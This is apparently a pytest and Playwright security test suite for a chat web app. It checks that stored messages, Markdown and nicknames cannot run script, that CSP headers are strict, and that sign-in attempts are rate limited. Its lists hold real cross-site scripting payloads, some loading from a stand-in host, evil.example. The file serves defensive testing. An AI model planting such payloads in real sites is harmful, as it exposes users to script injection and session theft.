"""Attacks with stored script: what somebody writes must not run in somebody else's browser."""

import html
import json
import re
import secrets
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from contract import test_page
from contract.conftest import Client
from playwright.sync_api import expect

browser, visit, text = test_page.browser, test_page.visit, test_page.text

# All of these are shown as they are written.
TEXTS = [
    "<script>hacked=1</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=hacked=1>",
    "<img src='x' onerror='hacked=1'",
    "<svg/onload=hacked=1>",
    "<svg><script>hacked=1</script></svg>",
    "<svg><a xlink:href=javascript:hacked=1>x</a></svg>",
    "<math><mi//xlink:href=data:x,hacked>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<form action=//evil.example/><input name=password>",
    "<object data=//evil.example/>",
    "<details open ontoggle=hacked=1>",
    "<body onload=hacked=1>",
    "</div></article></li></ol><script>hacked=1</script>",
    "<template><script>hacked=1</script></template>",
    "<div style=position:fixed;inset:0>",
    "<p id=composer class=message>",
    "<noscript><p title='</noscript><img src=x onerror=hacked=1>'>",
    "{{7+7}} {% raw %} ${7+7} #{7+7} <%= 7+7 %> %(x)s {0.class}",
    "\"'><script>hacked=1</script>",
]
# Of these, Markdown makes something: links at most, and only to the web.
MARKDOWN = [
    "[x](javascript:hacked=1)",
    "[x](JaVa&#x53;cript:hacked=1)",
    "[x](java\nscript:hacked=1)",
    "[x](data:text/html,<script>hacked=1</script>)",
    "[x](vbscript:hacked=1)",
    "[x](//evil.example)",
    '[x](https://evil.example/"onmouseover=hacked=1")',
    "[x](https://evil.example/ '\" onmouseover=\"hacked=1')",
    "[x]: javascript:hacked=1\n\n[x]",
    "![x](https://evil.example/x.png)",
    "![x](data:image/svg+xml,<svg/onload=hacked=1>)",
    "<javascript:hacked=1>",
    '<https://evil.example/"onclick="hacked=1>',
    "https://evil.example/<script>hacked=1</script>",
    "```<script>\n</code></pre><script>hacked=1</script>",
    "&lt;script&gt;hacked=1&lt;/script&gt; &#60;img src=x onerror=hacked=1&#62;",
    "a | b\n--|--\n<img src=x onerror=hacked=1> | `</td><script>hacked=1</script>`",
    "# <svg onload=hacked=1>\n> <b onclick=hacked=1>\n1. <script>",
    "\u202egnp.exe\u202c \u2066x\u2069 \u200b\x1b[31m\x07 \x85\u2028",
]
NICKNAMES = [
    "<img src=x onerror=hacked=1>",
    "<svg/onload=hacked=1>",
    "<script>hacked=1</script>",
    "'\"><b onclick=hacked=1>",
    "&lt;b&gt;{{7+7}}${7+7}",
]
TAGS = re.compile("a|blockquote|br|code|em|h[1-6]|hr|li|ol|p|pre|s|strong|table|tbody|td|th|thead|tr|ul")
ATTRIBUTES = {"a": {"href", "title", "target", "rel"}, "ol": {"start"}}


class Active(HTMLParser):
    """Notes whatever in a piece of HTML is not on the list."""

    def __init__(self, text: str):
        super().__init__()
        self.found: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attributes):
        if not TAGS.fullmatch(tag):
            self.found.append(tag)
        for name, value in attributes:
            # Without a scheme it has the page's own, which is that of the web.
            elsewhere = name == "href" and urlsplit(value).scheme not in ("", "http", "https")
            if elsewhere or name not in ATTRIBUTES.get(tag, ()):
                self.found.append(f"{tag} {name}={value}")

    def handle_comment(self, data):
        self.found.append(f"<!--{data}")

    handle_decl = handle_pi = unknown_decl = handle_comment


@pytest.mark.parametrize("source", TEXTS + MARKDOWN)
def test_nothing_in_the_html_of_a_message_is_active(ann, source):
    posted = ann.say(source)
    assert posted["source"] == source
    assert Active(posted["html"]).found == []
    ann.put(f"/api/messages/{posted['id']}", json={"source": f"{source}\n\n{source}"})
    assert Active(ann.read(posted["id"])["html"]).found == []


@pytest.mark.parametrize(
    "nickname", ["\u202eann", "a\u200bnn", "ann\u2028", "a\x1b[1m", "a\x7f", "\ufeffann", "a\u00adnn"]
)
def test_a_nickname_has_no_invisible_characters(anonymous, nickname):
    body = {"nickname": nickname, "password": "correct horse"}
    assert anonymous.post("/api/users", json=body).status_code == 400


@pytest.fixture(scope="module")
def ann(url):
    client = Client(url).register()
    yield client
    client.http.close()


WATCH = """
    window.violations = [];
    document.addEventListener("securitypolicyviolation", (event) => violations.push(event.violatedDirective));
"""


@pytest.fixture
def watched(visit):
    """Open the page in a browser that notes dialogs and violations of the page's policy from the beginning."""

    def open_page():
        visitor = visit()
        visitor.page.on(
            "dialog", lambda dialog: (visitor.problems.append(f"dialog: {dialog.message}"), dialog.dismiss())
        )
        visitor.page.add_init_script(WATCH)
        visitor.page.reload()
        return visitor

    return open_page


def test_nothing_that_was_stored_runs_in_a_browser_and_all_of_it_is_shown_as_text(url, ann, watched, site, until, text):
    mallories = []
    for nickname in NICKNAMES:
        mallory = Client(url)
        mallory.nickname, mallory.password = nickname + secrets.token_hex(2), "correct horse"
        body = {"nickname": mallory.nickname, "password": mallory.password}
        assert mallory.post("/api/users", json=body).status_code == 201
        mallory.sign_in()
        mallories.append(mallory)
        mallory.say(f"I am here {text}")
    for number, source in enumerate(TEXTS + MARKDOWN):
        mallories[number % len(mallories)].say(f"{text} text {number}.\n\n{source}")
    previews = []
    for number in range(0, len(TEXTS), 3):
        links = [
            site.add(f"/{n}", html.escape(t), html.escape(t)) for n, t in enumerate(TEXTS[number : number + 3], number)
        ]
        previews.append(mallories[0].say(f"{text} links {number}. {' '.join(links)}"))
    for message in previews:
        until(lambda m=message: "<blockquote>" in ann.read(m["id"])["html"], 10, "a preview")
        assert Active(ann.read(message["id"])["html"]).found == []
    for mallory in mallories:
        mallory.put("/api/users/me")
        mallory.http.close()

    reader = watched()
    for number, source in enumerate(TEXTS):
        shown = reader.message(re.compile(rf"{text} text {number}\."))
        expect(shown).to_contain_text(source)
    for number in range(0, len(TEXTS), 3):
        preview = reader.message(re.compile(rf"{text} links {number}\.")).locator("blockquote")
        for n, source in enumerate(TEXTS[number : number + 3]):
            expect(preview.nth(n)).to_contain_text(" ".join(source.split()))
    for mallory in mallories:
        expect(reader.message(f"I am here {text}").filter(has_text=mallory.nickname)).to_have_count(1)
        expect(reader.person("Online", mallory.nickname)).to_be_visible()
    links = reader.measure("[...document.querySelectorAll('#messages .body a')].map((link) => link.protocol)")
    assert set(links) <= {"http:", "https:"}
    assert reader.measure("[typeof window.hacked, violations]") == ["undefined", []]


def directives(policy: str) -> dict[str, list[str]]:
    return {name: values for name, *values in (part.split() for part in policy.split(";"))}


def test_the_page_and_all_that_belongs_to_it_carry_a_strict_policy(anonymous):
    for path in ("/", "/static/main.js", "/static/style.css", "/static/icon.svg"):
        answer = anonymous.get(path)
        assert answer.headers["X-Content-Type-Options"] == "nosniff", path
        policy = directives(answer.headers["Content-Security-Policy"])
        for name in ("default-src", "base-uri", "frame-ancestors"):
            assert policy[name] == ["'none'"], (path, name)
        for name in ("object-src", "frame-src", "worker-src"):
            assert policy.get(name, policy["default-src"]) == ["'none'"], (path, name)
        for name in ("script-src", "style-src", "connect-src", "form-action"):
            assert policy[name] == ["'self'"], (path, name)
        assert not re.search(r"unsafe|\*|https?:|nonce|strict-dynamic", json.dumps(policy)), path


def test_an_ordinary_session_violates_nothing(watched, ann, text):
    visitor = watched().register()
    visitor.wait_for_socket()
    visitor.say(f"first {text}")
    visitor.edit(f"first {text}", f"**second** {text}", "Save")
    expect(visitor.message(f"second {text}")).to_be_visible()
    ann.say(f"pushed {text}")
    expect(visitor.message(f"pushed {text}")).to_be_visible()
    assert visitor.measure("violations") == []


def test_a_script_that_slipped_in_would_not_run(watched):
    visitor = watched()
    visitor.expected = re.compile("Content Security Policy")
    visitor.measure(
        """() => {
            const script = document.createElement("script");
            script.textContent = "window.hacked = 1";
            document.body.append(script);
            const place = document.createElement("div");
            document.body.append(place);
            place.innerHTML = "<b onclick='window.hacked = 1' style='color: red'>x</b>"
                + "<a href='javascript:hacked = 1'>y</a>";
            for (const element of place.children) element.click();
        }"""
    )
    visitor.page.wait_for_function("violations.length >= 4")
    assert visitor.measure("typeof window.hacked") == "undefined"


def test_who_guessed_too_often_is_told_so_on_the_page(visit, ann, anonymous):
    for _ in range(10):
        assert anonymous.post("/api/tokens", auth=(ann.nickname, "not the password")).status_code == 401
    visitor = visit()
    visitor.expected = re.compile("status of 429")
    visitor.enter("Sign in", ann.nickname, ann.password)
    expect(visitor.page.get_by_role("alert")).to_have_text(
        re.compile(r"Too many attempts to sign in\. Please try again in \d+ seconds\.")
    )
